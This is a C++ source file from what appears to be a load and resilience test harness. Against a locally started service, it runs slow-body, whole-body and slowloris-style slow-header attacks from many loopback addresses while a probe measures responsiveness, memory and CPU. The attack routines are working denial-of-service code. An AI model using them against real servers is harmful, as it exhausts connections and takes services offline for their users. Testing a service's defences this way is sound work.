// The attacks that hold connections: bodies that never end or arrive all at once (bodies,
// bodies-whole), and request heads that never end (slow-heads). While they run, a probe asks
// for the settings row once a second on a new connection, as a client starting up would.

#include "Report.h"
#include "Requests.h"
#include "Scenarios.h"
#include "Swarm.h"
#include "TargetService.h"

#include <cstdio>
#include <thread>

namespace attacks {
namespace {

constexpr int kAddresses = 16;
constexpr int kPerAddress = 63;  // one under the service's default per address
constexpr long long kAnnounced = 8388608;
constexpr size_t kFirstPart = 1 << 20;
constexpr auto kDripEvery = std::chrono::seconds(5);
constexpr auto kProbeTimeout = std::chrono::seconds(5);
constexpr auto kSettle = std::chrono::seconds(1);  // idle before the "before" figure
constexpr auto kAfter = std::chrono::seconds(3);   // idle before the "after" figure
constexpr const char* kProbeSource = "127.0.0.200";

std::string AttackSource(int address) {
    return "127.0.1." + std::to_string(address);
}

// Runs the attack connections against a fresh service with the probe beside them, then
// prints the figures.
bool RunHolding(const RunOptions& options, const std::string& title,
                const std::vector<Plan>& attack, bool withSilence) {
    TargetService service({options.program, options.site, "", options.extra, options.keep});
    std::string error;
    if (!service.Start(&error)) {
        std::printf("== %s: the service did not start: %s\n", title.c_str(), error.c_str());
        return false;
    }
    std::printf("\n== %s\n", title.c_str());
    Row("service", service.ServeLine());
    PrintLoad();
    std::fflush(stdout);

    MemoryFigures memory;
    MemoryWatch watch(service.Pid(), options.lowMemoryKb);
    std::this_thread::sleep_for(kSettle);
    memory.beforeKb = ReadMemory(service.Pid()).rssKb;

    // One probe a second from 1 s on, the last one with its whole time-out inside the run.
    const std::string probeRequest = SettingsQueryRequest();
    Swarm probes(service.Address());
    for (int t = 1; t + kProbeTimeout.count() <= options.seconds; ++t) {
        probes.Add({.source = kProbeSource,
                    .head = probeRequest,
                    .startAfter = std::chrono::seconds(t),
                    .timeout = kProbeTimeout,
                    .untilAnswer = true});
    }
    Swarm swarm(service.Address());
    for (const Plan& plan : attack)
        swarm.Add(plan);

    const double serviceCpu = CpuSeconds(service.Pid());
    const double ownCpu = OwnCpuSeconds();
    int socketsAtEnd = 0;
    const Clock::time_point start = Clock::now();
    const Clock::time_point end = start + std::chrono::seconds(options.seconds);
    std::thread probing([&] { probes.Run(start, end, &watch.Low()); });
    std::thread endSample([&] {
        std::this_thread::sleep_until(end - std::chrono::milliseconds(100));
        memory.endKb = ReadMemory(service.Pid()).rssKb;
        socketsAtEnd = OpenSockets(service.Pid());
    });
    swarm.Run(start, end, &watch.Low());
    const Milliseconds ran = std::chrono::duration_cast<Milliseconds>(Clock::now() - start);
    const double serviceCpuUsed = CpuSeconds(service.Pid()) - serviceCpu;
    probing.join();
    endSample.join();
    const double ownCpuUsed = OwnCpuSeconds() - ownCpu;
    if (watch.Low().load()) {
        memory.endKb = ReadMemory(service.Pid()).rssKb;
        Row("STOPPED EARLY", "the machine's available memory fell under " +
                                 FormatMb(options.lowMemoryKb) + " after " + FormatMs(ran.count()));
    }
    std::this_thread::sleep_for(kAfter);
    const MemorySample last = ReadMemory(service.Pid());
    memory.afterKb = last.rssKb;
    memory.hwmKb = last.peakKb;
    memory.highestKb = watch.HighestRssKb();
    memory.samples = watch.Samples();

    PrintMemory(memory, 5);
    PrintProbes(ProbeFiguresOf(probes.Outcomes(), std::chrono::seconds(1), ran), withSilence);
    PrintConnections(swarm.Outcomes());
    Row("service sockets at the end",
        std::to_string(socketsAtEnd) + " (the listening one included)");
    char cpu[96];
    std::snprintf(cpu, sizeof cpu, "service %.1f s, this program %.1f s", serviceCpuUsed,
                  ownCpuUsed);
    Row("processor time of the run", cpu);
    if (last.rssKb == 0)
        Row("service process", "GONE (it ended during the attack)");
    PrintLog(service.LogPath());
    if (options.keep)
        Row("kept", service.Folder());
    std::fflush(stdout);
    return true;
}

}  // namespace

bool RunBodies(const RunOptions& options, bool whole) {
    // One body for every connection: "zc=49&sql=" and a number list, as long as announced.
    static const std::string body = NumberListBody(kAnnounced);
    const std::string head = GatewayHead(kAnnounced, false);
    std::vector<Plan> attack;
    for (int a = 1; a <= kAddresses; ++a) {
        for (int c = 0; c < kPerAddress; ++c) {
            Plan plan{.source = AttackSource(a), .head = head};
            if (whole) {
                plan.body = body;
            } else {
                plan.body = std::string_view(body).substr(0, kFirstPart);
                plan.drip = std::string_view(body).substr(kFirstPart);
                plan.dripInterval = kDripEvery;
            }
            attack.push_back(std::move(plan));
        }
    }
    char title[256];
    if (whole) {
        std::snprintf(title, sizeof title,
                      "bodies-whole: %d addresses x %d connections, each a whole body of %lld "
                      "bytes; %d s",
                      kAddresses, kPerAddress, kAnnounced, options.seconds);
    } else {
        std::snprintf(title, sizeof title,
                      "bodies: %d addresses x %d connections, Content-Length %lld, %zu bytes "
                      "sent, then 1 byte / %lld s; %d s",
                      kAddresses, kPerAddress, kAnnounced, kFirstPart,
                      static_cast<long long>(kDripEvery.count()), options.seconds);
    }
    return RunHolding(options, title, attack, false);
}

bool RunSlowHeads(const RunOptions& options) {
    // Header lines that a byte at a time never finish the head: "Xa: b", again and again.
    static const std::string drip = [] {
        std::string lines;
        while (lines.size() < 4096)
            lines += "Xa: b\r\n";
        return lines;
    }();
    std::vector<Plan> attack;
    for (int a = 1; a <= kAddresses; ++a) {
        for (int c = 0; c < kPerAddress; ++c) {
            attack.push_back({.source = AttackSource(a),
                              .head = std::string("POST /asp/index.asp HTTP/1.1\r\nHost: x\r\n"),
                              .drip = drip,
                              .dripInterval = kDripEvery});
        }
    }
    char title[256];
    std::snprintf(title, sizeof title,
                  "slow-heads: %d addresses x %d connections, part of a head, then 1 byte / "
                  "%lld s; %d s",
                  kAddresses, kPerAddress, static_cast<long long>(kDripEvery.count()),
                  options.seconds);
    return RunHolding(options, title, attack, true);
}

}  // namespace attacks
